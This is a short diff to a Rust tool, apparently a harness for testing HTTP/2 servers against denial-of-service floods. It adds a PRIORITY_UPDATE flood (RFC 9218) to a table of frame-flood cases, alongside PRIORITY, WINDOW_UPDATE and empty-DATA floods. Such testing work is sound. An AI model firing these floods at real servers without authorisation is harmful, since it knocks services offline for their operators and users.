@@ -34,12 +34,18 @@ const UNREAD: usize = 4 << 20;
 type Frames = fn(&Target) -> Vec<u8>;
 
 /// What goes before, and what is sent again and again. Who endures these keeps nothing.
-const CHEAP: [(&str, &str, Frames, Frames); 8] = [
+const CHEAP: [(&str, &str, Frames, Frames); 9] = [
     (
         "http2-priority-flood",
         "sends 20 000 PRIORITY",
         |_| Vec::new(),
         |_| frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 16]),
+    ),
+    (
+        "http2-priority-update-flood",
+        "sends 20 000 PRIORITY_UPDATE (RFC 9218)",
+        |_| Vec::new(),
+        |_| frame(0x10, 0, 0, b"\0\0\0\x01u=0"),
     ),
     ("http2-window-flood", "sends 20 000 WINDOW_UPDATE", |_| Vec::new(), |_| window_update(0, 1)),
     ("http2-empty-data-flood", "sends 20 000 empty DATA", |t| post(t, 1), |_| frame(DATA, 0, 1, &[])),
